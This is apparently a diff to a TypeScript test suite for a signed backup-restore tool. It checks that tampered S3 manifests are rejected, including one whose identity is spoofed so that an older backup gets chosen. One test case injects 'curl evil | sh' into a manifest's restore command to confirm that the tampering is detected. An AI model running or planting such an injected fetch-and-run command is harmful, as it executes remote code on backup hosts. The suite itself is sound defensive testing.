@@ -141,6 +141,15 @@ const cases: Record<string, [hurt: () => string, cause: RegExp]> = {
     () => (put(newer, { file: Buffer.concat([stored(newer).file, unsigned.file]) }), ""),
     /is damaged: /,
   ],
+  "the newest one said to be another server's, so that the older one would be chosen": [
+    () => {
+      const { manifest } = stored(newer);
+      const identity = { system: "1234", server: "elsewhere:5432", site: "other", siteIsSet: false };
+      put(newer, { manifest: altered(manifest, { identity }) });
+      return "";
+    },
+    /its manifest was changed/,
+  ],
   "a command in its restoreCommand": [
     () => (put(newer, { manifest: stored(newer).manifest.replace("gunzip -c", "curl evil | sh; gunzip -c") }), ""),
     /its manifest was changed/,
@@ -167,9 +176,9 @@ describe("a hostile bucket", () => {
     put(newer, unsigned);
     s3.asked.splice(0);
     expectFailure(await restore(), /is not signed/);
-    expect(s3.asked.filter(({ operation }) => operation === "GetObject").map(({ key }) => key)).toEqual([
-      `${newer}.json`,
-    ]);
+    const fetched = s3.asked.filter(({ operation }) => operation === "GetObject").map(({ key }) => key);
+    expect(fetched).toContain(`${newer}.json`);
+    expect(fetched.filter((key) => !key.endsWith(".json"))).toEqual([]);
   });
 
   test("a dry run refuses it too", async () => {
